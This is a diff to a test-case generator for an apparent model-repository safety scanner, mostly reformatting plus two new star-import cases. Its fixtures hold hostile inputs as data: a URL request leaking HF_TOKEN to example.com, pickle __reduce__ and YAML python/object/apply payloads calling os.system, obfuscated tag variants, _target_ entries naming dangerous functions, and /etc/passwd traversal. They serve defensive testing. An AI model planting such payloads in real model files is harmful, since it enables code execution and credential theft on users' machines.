@@ -55,6 +55,8 @@ PYTHON = {
     "dict-of-builtins": f'__builtins__["exec"]("{ECHO}")\n',
     "globals": f'import os\nglobals()["os"].system("{ECHO}")\n',
     "star-import": f'from os import *\nsystem("{ECHO}")\n',
+    "star-import-in-method": f'from os import *\nclass Net:\n    def forward(self, x):\n        system("{ECHO}")\n        return x\n',
+    "star-import-of-builtin": 'from os import *\nx = open("/tmp/weighbridge", 65)\n',
     "semicolon": f'x = 1; import os; os.system("{ECHO}")\n',
     "environment": 'import os, urllib.request\nurllib.request.urlopen("http://example.com/?" + os.environ["HF_TOKEN"])\n',
     "reduce": f'import os, pickle\nclass A:\n    def __reduce__(self):\n        return os.system, ("{ECHO}",)\n',
@@ -90,35 +92,112 @@ def python() -> Cases:
 
 
 def configs() -> Cases:
-    yield folder("config", "auto-map-and-code", {"config.json": _json({"auto_map": {"AutoModel": "evil.Net"}}), "evil.py": RUN}, Expect.FAIL)
-    yield folder("config", "auto-map-tokenizer", {"tokenizer_config.json": _json({"auto_map": {"AutoTokenizer": ["tok.T", None]}}), "tok.py": RUN}, Expect.FAIL)
-    yield folder("config", "custom-pipeline", {"model_index.json": _json({"_class_name": ["pipeline", "P"]}), "pipeline.py": RUN}, Expect.FAIL)
-    yield fail("config", "attention-from-hub", "config.json", _json({"_attn_implementation_internal": "someone/kernel"}))
+    yield folder(
+        "config",
+        "auto-map-and-code",
+        {"config.json": _json({"auto_map": {"AutoModel": "evil.Net"}}), "evil.py": RUN},
+        Expect.FAIL,
+    )
+    yield folder(
+        "config",
+        "auto-map-tokenizer",
+        {"tokenizer_config.json": _json({"auto_map": {"AutoTokenizer": ["tok.T", None]}}), "tok.py": RUN},
+        Expect.FAIL,
+    )
+    yield folder(
+        "config",
+        "custom-pipeline",
+        {"model_index.json": _json({"_class_name": ["pipeline", "P"]}), "pipeline.py": RUN},
+        Expect.FAIL,
+    )
+    yield fail(
+        "config",
+        "attention-from-hub",
+        "config.json",
+        _json({"_attn_implementation_internal": "someone/kernel"}),
+    )
     for target in ("os.system", "subprocess.Popen", "builtins.eval", "builtins.exec", "shutil.rmtree", "importlib.import_module", "pickle.loads",
                    "torch.load", "numpy.load", "webbrowser.open", "pydoc.pipepager", "posix.system", "code.interact", "runpy.run_path"):  # fmt: skip
-        yield fail("config", f"target-{target}", "config.json", _json({"model": {"_target_": target, "command": ECHO}}))
-    yield fail("config", "target-yaml", "config.yaml", f"model:\n  _target_: os.system\n  command: {ECHO}\n".encode())
+        yield fail(
+            "config",
+            f"target-{target}",
+            "config.json",
+            _json({"model": {"_target_": target, "command": ECHO}}),
+        )
+    yield fail(
+        "config", "target-yaml", "config.yaml", f"model:\n  _target_: os.system\n  command: {ECHO}\n".encode()
+    )
     yield fail("config", "target-yaml-flow", "config.yaml", b"model: {_target_: subprocess.Popen, args: x}\n")
     yield fail("config", "target-yaml-list", "config.yaml", b"- _target_: builtins.exec\n")
     yield fail("config", "class-path", "config.yaml", b"model:\n  class_path: os.system\n")
-    yield fail("config", "loader-module", "MLmodel.yaml", b"flavors:\n  python_function:\n    loader_module: os\n")
-    yield fail("config", "jsonpickle", "config.json", _json({"py/object": "subprocess.Popen", "py/newargs": {}}))
-    yield fail("config", "jsonpickle-reduce", "config.json", _json({"py/reduce": [{"py/function": "os.system"}, {"py/tuple": [ECHO]}]}))
-    yield fail("config", "modules", "modules.json", _json([{"idx": 0, "name": "0", "path": "", "type": "os.system"}]))
-    yield fail("config", "index-traversal", "model.safetensors.index.json", _json({"weight_map": {"a": "../../etc/passwd"}}))
-    yield fail("config", "index-absolute", "pytorch_model.bin.index.json", _json({"weight_map": {"a": "/etc/passwd"}}))
-    yield fail("config", "index-url", "model.safetensors.index.json", _json({"weight_map": {"a": "http://example.com/x"}}))
-    yield fail("config", "tag-apply", "config.yaml", f'a: !!python/object/apply:os.system ["{ECHO}"]\n'.encode())
+    yield fail(
+        "config", "loader-module", "MLmodel.yaml", b"flavors:\n  python_function:\n    loader_module: os\n"
+    )
+    yield fail(
+        "config", "jsonpickle", "config.json", _json({"py/object": "subprocess.Popen", "py/newargs": {}})
+    )
+    yield fail(
+        "config",
+        "jsonpickle-reduce",
+        "config.json",
+        _json({"py/reduce": [{"py/function": "os.system"}, {"py/tuple": [ECHO]}]}),
+    )
+    yield fail(
+        "config", "modules", "modules.json", _json([{"idx": 0, "name": "0", "path": "", "type": "os.system"}])
+    )
+    yield fail(
+        "config",
+        "index-traversal",
+        "model.safetensors.index.json",
+        _json({"weight_map": {"a": "../../etc/passwd"}}),
+    )
+    yield fail(
+        "config",
+        "index-absolute",
+        "pytorch_model.bin.index.json",
+        _json({"weight_map": {"a": "/etc/passwd"}}),
+    )
+    yield fail(
+        "config",
+        "index-url",
+        "model.safetensors.index.json",
+        _json({"weight_map": {"a": "http://example.com/x"}}),
+    )
+    yield fail(
+        "config", "tag-apply", "config.yaml", f'a: !!python/object/apply:os.system ["{ECHO}"]\n'.encode()
+    )
     yield fail("config", "tag-new", "config.yaml", b"a: !!python/object/new:subprocess.Popen [x]\n")
     yield fail("config", "tag-name", "config.yml", b"a: !!python/name:os.system\n")
     yield fail("config", "tag-module", "config.yaml", b"a: !!python/module:os\n")
-    yield fail("config", "tag-long", "config.yaml", b"a: !<tag:yaml.org,2002:python/object/apply:os.system> [x]\n")
-    yield fail("config", "tag-directive", "config.yaml", b"%TAG !p! tag:yaml.org,2002:python/\n---\na: !p!object/apply:os.system [x]\n")
+    yield fail(
+        "config", "tag-long", "config.yaml", b"a: !<tag:yaml.org,2002:python/object/apply:os.system> [x]\n"
+    )
+    yield fail(
+        "config",
+        "tag-directive",
+        "config.yaml",
+        b"%TAG !p! tag:yaml.org,2002:python/\n---\na: !p!object/apply:os.system [x]\n",
+    )
     yield fail("config", "tag-escaped", "config.yaml", b"a: !!python%2Fobject%2Fapply:os.system [x]\n")
     yield fail("config", "tag-escaped-letter", "config.yaml", b"a: !!pyth%6Fn/name:os.system\n")
-    yield fail("config", "tag-directive-half", "config.yaml", b"%TAG !p! tag:yaml.org,2002:py\n---\na: !p!thon/object/apply:os.system [x]\n")
-    yield fail("config", "tag-directive-short", "config.yaml", b"%TAG ! tag:yaml.org,2002:python/object/\n---\na: !apply:os.system [x]\n")
-    yield fail("config", "tag-directive-escaped", "config.yaml", b"%TAG !p! tag:yaml.org,2002:pyth%6Fn/\n---\na: !p!object/apply:os.system [x]\n")
+    yield fail(
+        "config",
+        "tag-directive-half",
+        "config.yaml",
+        b"%TAG !p! tag:yaml.org,2002:py\n---\na: !p!thon/object/apply:os.system [x]\n",
+    )
+    yield fail(
+        "config",
+        "tag-directive-short",
+        "config.yaml",
+        b"%TAG ! tag:yaml.org,2002:python/object/\n---\na: !apply:os.system [x]\n",
+    )
+    yield fail(
+        "config",
+        "tag-directive-escaped",
+        "config.yaml",
+        b"%TAG !p! tag:yaml.org,2002:pyth%6Fn/\n---\na: !p!object/apply:os.system [x]\n",
+    )
     yield fail("config", "target-yaml-tagged-value", "config.yaml", b"a:\n  _target_: !!str os.system\n")
     yield fail("config", "target-yaml-tagged-key", "config.yaml", b"a:\n  !!str _target_: os.system\n")
     yield fail("config", "target-yaml-anchored-key", "config.yaml", b"a:\n  &k _target_: os.system\n")
@@ -127,24 +206,56 @@ def configs() -> Cases:
     yield fail("config", "target-yaml-question", "config.yaml", b"a:\n  ? _target_\n  : os.system\n")
     yield unknown("config", "target-yaml-alias", "config.yaml", b"x: &k _target_\na:\n  *k : os.system\n")
     yield fail("config", "target-yaml-anchored-value", "config.yaml", b"a:\n  _target_: &v os.system\n")
-    yield unknown("config", "target-yaml-alias-value", "config.yaml", b"x: &v os.system\na:\n  _target_: *v\n")
+    yield unknown(
+        "config", "target-yaml-alias-value", "config.yaml", b"x: &v os.system\na:\n  _target_: *v\n"
+    )
     yield fail("config", "target-yaml-block", "config.yaml", b"a:\n  _target_: >-\n    os.system\n")
-    yield fail("config", "target-yaml-comment-between", "config.yaml", b"a:\n  _target_: # the model\n    os.system\n")
+    yield fail(
+        "config",
+        "target-yaml-comment-between",
+        "config.yaml",
+        b"a:\n  _target_: # the model\n    os.system\n",
+    )
     yield fail("config", "target-yaml-json", "config.yaml", b'{"a": {"_target_":"os.system"}}\n')
-    yield fail("config", "tag-without-suffix", "MLmodel", f'a: !!python/object/apply:os.system ["{ECHO}"]\n'.encode())
-    yield unknown("config", "auto-map-elsewhere", "config.json", _json({"auto_map": {"AutoModel": "someone/else--m.Net"}}))
-    yield unknown("config", "auto-map-missing", "config.json", _json({"auto_map": {"AutoModel": "modeling.Net"}}))
+    yield fail(
+        "config", "tag-without-suffix", "MLmodel", f'a: !!python/object/apply:os.system ["{ECHO}"]\n'.encode()
+    )
+    yield unknown(
+        "config",
+        "auto-map-elsewhere",
+        "config.json",
+        _json({"auto_map": {"AutoModel": "someone/else--m.Net"}}),
+    )
+    yield unknown(
+        "config", "auto-map-missing", "config.json", _json({"auto_map": {"AutoModel": "modeling.Net"}})
+    )
     yield unknown("config", "trust-remote-code", "config.json", _json({"trust_remote_code": True}))
     yield unknown("config", "target-own", "config.json", _json({"_target_": "mylib.models.Net"}))
-    yield unknown("config", "duplicate-keys", "config.json", b'{"architectures": ["A"], "architectures": ["B"]}')
-    yield unknown("config", "missing-shard", "model.safetensors.index.json", _json({"weight_map": {"a": "x.safetensors"}}))
+    yield unknown(
+        "config", "duplicate-keys", "config.json", b'{"architectures": ["A"], "architectures": ["B"]}'
+    )
+    yield unknown(
+        "config",
+        "missing-shard",
+        "model.safetensors.index.json",
+        _json({"weight_map": {"a": "x.safetensors"}}),
+    )
 
 
 # -- everything else
 
 
 def _notebook(*cells: str, outputs: Any = ()) -> bytes:
-    found = [{"cell_type": "code", "metadata": {}, "execution_count": None, "outputs": list(outputs), "source": text} for text in cells]
+    found = [
+        {
+            "cell_type": "code",
+            "metadata": {},
+            "execution_count": None,
+            "outputs": list(outputs),
+            "source": text,
+        }
+        for text in cells
+    ]
     return _json({"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": found})
 
 
@@ -161,7 +272,11 @@ def others() -> Cases:
     yield unknown("notebook", "second-cell", "a.ipynb", _notebook("x = 1", RUN))
     yield unknown("notebook", "shell", "a.ipynb", _notebook(f"!{ECHO}"))
     yield unknown("notebook", "bash", "a.ipynb", _notebook(f"%%bash\n{ECHO}"))
-    script = {"output_type": "display_data", "metadata": {}, "data": {"text/html": "<script>alert(1)</script>"}}
+    script = {
+        "output_type": "display_data",
+        "metadata": {},
+        "data": {"text/html": "<script>alert(1)</script>"},
+    }
     yield unknown("notebook", "script-output", "a.ipynb", _notebook("x", outputs=[script]))
     urls = ("x @ https://example.com/x.tar.gz", "git+https://example.com/x.git", "--index-url http://example.com/simple", "--extra-index-url https://example.com/simple",
             "-e git+ssh://git@example.com/x", "https://example.com/x.whl", "--find-links http://example.com", "--trusted-host example.com")  # fmt: skip
@@ -176,7 +291,12 @@ def others() -> Cases:
         yield fail("secret", f"{what}-in-json", "config.json", _json({"x": text}))
     programs = {
         "elf": b"\x7fELF\x02\x01\x01" + bytes(9) + struct.pack("<HHI", 3, 62, 1) + bytes(100),
-        "pe": b"MZ" + bytes(58) + struct.pack("<I", 64) + b"PE\0\0" + struct.pack("<HH", 0x8664, 1) + bytes(100),
+        "pe": b"MZ"
+        + bytes(58)
+        + struct.pack("<I", 64)
+        + b"PE\0\0"
+        + struct.pack("<HH", 0x8664, 1)
+        + bytes(100),
         "mach-o": b"\xcf\xfa\xed\xfe" + struct.pack("<III", 0x01000007, 3, 2) + bytes(100),
         "pyc": b"\xa7\x0d\r\n" + bytes(12) + b"\xe3" + bytes(60),
         "wasm": b"\x00asm\x01\x00\x00\x00" + bytes(20),
@@ -188,18 +308,33 @@ def others() -> Cases:
     yield fail("program", "llamafile", "model.llamafile", programs["elf"] + bytes(64))
     yield unknown("program", "shell", "run.sh", f"#!/bin/sh\n{ECHO}\n".encode())
     yield unknown("program", "shell-without-suffix", "run", f"#!/bin/bash\n{ECHO}\n".encode())
-    yield unknown("page", "svg", "logo.svg", b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>')
-    yield unknown("page", "svg-handler", "logo.svg", b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>')
+    yield unknown(
+        "page", "svg", "logo.svg", b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
+    )
+    yield unknown(
+        "page", "svg-handler", "logo.svg", b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'
+    )
     yield unknown("page", "html", "card.html", b"<html><script>alert(1)</script></html>")
-    yield unknown("page", "html-frame", "card.html", b"<html><iframe src='http://example.com'></iframe></html>")
+    yield unknown(
+        "page", "html-frame", "card.html", b"<html><iframe src='http://example.com'></iframe></html>"
+    )
     for number, path in enumerate(("model\u202esrosnetefas.pkl", "x.safetensors.pkl")):
         yield unknown("name", f"hidden-{number}", path, b"hello\n")
     yield folder("name", "collision", {"A.json": "{}", "a.json": "{}"}, Expect.UNKNOWN)
-    yield folder("name", "collision-unicode", {"caf\u00e9.json": "{}", "cafe\u0301.json": "{}"}, Expect.UNKNOWN)
+    yield folder(
+        "name", "collision-unicode", {"caf\u00e9.json": "{}", "cafe\u0301.json": "{}"}, Expect.UNKNOWN
+    )
     yield folder("name", "empty", {"model.safetensors": b""}, Expect.UNKNOWN)
     yield fail("name", "pointer-dressed", "model.safetensors", b"\x80\x04cos\nsystem\nX\x01\0\0\0x\x85R.")
-    yield unknown("name", "lfs-pointer", "model.safetensors", b"version https://git-lfs.github.com/spec/v1\noid sha256:" + b"a" * 64 + b"\nsize 1\n")
-    yield unknown("unread", "random", "model.bin", bytes((i * i * 7 + i * 31 + 5) % 256 for i in range(1, 900)))
+    yield unknown(
+        "name",
+        "lfs-pointer",
+        "model.safetensors",
+        b"version https://git-lfs.github.com/spec/v1\noid sha256:" + b"a" * 64 + b"\nsize 1\n",
+    )
+    yield unknown(
+        "unread", "random", "model.bin", bytes((i * i * 7 + i * 31 + 5) % 256 for i in range(1, 900))
+    )
     yield unknown("unread", "tflite", "model.tflite", b"\x1c\0\0\0TFL3" + bytes(100))
     yield unknown("unread", "zstd", "model.bin", b"\x28\xb5\x2f\xfd" + bytes(60))
     yield unknown("unread", "7z", "model.7z", b"7z\xbc\xaf\x27\x1c\x00\x04" + bytes(60))
@@ -221,5 +356,3 @@ def cases() -> Iterator[Case]:
     yield from python()
     yield from configs()
     yield from others()
-
-
